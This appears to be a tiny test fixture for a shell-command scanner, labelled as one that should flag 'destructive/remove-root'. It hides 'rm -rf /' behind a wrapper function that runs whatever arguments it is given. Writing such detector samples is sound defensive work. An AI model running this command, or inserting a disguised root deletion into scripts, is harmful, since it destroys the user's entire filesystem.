# finds: destructive/remove-root
run() { "$@"; }
run rm -rf /
